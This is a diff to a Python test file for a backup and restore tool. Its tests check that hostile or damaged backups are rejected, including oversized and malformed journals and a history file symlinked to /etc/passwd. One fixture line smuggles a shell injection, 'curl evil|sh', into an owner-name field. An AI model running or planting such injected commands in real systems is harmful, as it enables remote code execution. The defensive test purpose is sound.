@@ -5,6 +5,7 @@ import hashlib
 import io
 import json
 import os
+import pwd
 import shutil
 import stat
 import tarfile
@@ -22,7 +23,7 @@ from supervisor.core.launch import Launch
 from supervisor.core.model import Generation, Life, Release, Request, Role, State
 from supervisor.core.outcome import Outcome, Result
 from supervisor.engine import heritage
-from supervisor.engine.journal import Journal
+from supervisor.engine.journal import FORMAT, Journal
 from supervisor.errors import HostError, OperatorError, ReleaseError
 from supervisor.linux.lock import Lock
 from supervisor.releases import backup, restore
@@ -36,6 +37,9 @@ from tests.releases.stores import left, offer, put, sha256, store
 from tests.releases.test_archive import NAMES
 
 HISTORY = b'{"handoff": 1, "result": "committed"}\n{"handoff": 2, "result": "committed"}\n'
+
+
+EXTREME = b'{"format": %d, "releases": [], "state": {}, "written": 1e999, "pid": 1e999}' % FORMAT
 
 
 @dataclass(frozen=True)
@@ -425,6 +429,7 @@ def hostile(host: Host) -> dict[str, Path]:
         "is no user's name": (config, lambda said: said.update(owner="web /srv; curl evil|sh #")),
         "the history in the backup is damaged": ({**config, "state/history.jsonl": b"[" * 200_000}, None),
         "the journal in the backup": ({**config, "state/journal.json": b"[" * 200_000}, None),
+        "the journal in the backup is damaged: ": ({**config, "state/journal.json": EXTREME}, None),
         "has more in it than any": (config, lambda said: said.update(refers=[[]] * 4_000_001)),
         "has mode 4755": (config, lambda said: said["members"][0].update(mode="4755")),
         "want a SHA-256": (config, lambda said: said["members"][0].update(sha256="x")),
@@ -551,8 +556,23 @@ def test_what_nobody_could_restore_is_not_written_to_a_pipe_either(
 def test_state_that_is_no_file_is_not_followed(host: Host) -> None:
     (host.state / "history.jsonl").unlink()
     (host.state / "history.jsonl").symlink_to("/etc/passwd")
+    with pytest.raises(HostError, match=r"history.jsonl is a link, and no plain file"):
+        host.save()
+    (host.state / "history.jsonl").unlink()
+    os.mkfifo(host.state / "history.jsonl")
     with pytest.raises(HostError, match=r"history.jsonl is no plain file"):
         host.save()
+
+
+def test_an_owner_with_an_odd_name_is_told_by_number(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
+    odd = replace_name(pwd.getpwuid(os.getuid()), "CORP\\web")
+    monkeypatch.setattr(pwd, "getpwuid", lambda _: odd)
+    host.save()
+    assert examined(host.folder / "t.tar.gz").manifest.owner == str(os.getuid())
+
+
+def replace_name(entry: pwd.struct_passwd, name: str) -> pwd.struct_passwd:
+    return pwd.struct_passwd((name, *entry[1:]))
 
 
 def test_a_manifest_that_was_damaged_tells_so_itself(host: Host) -> None:
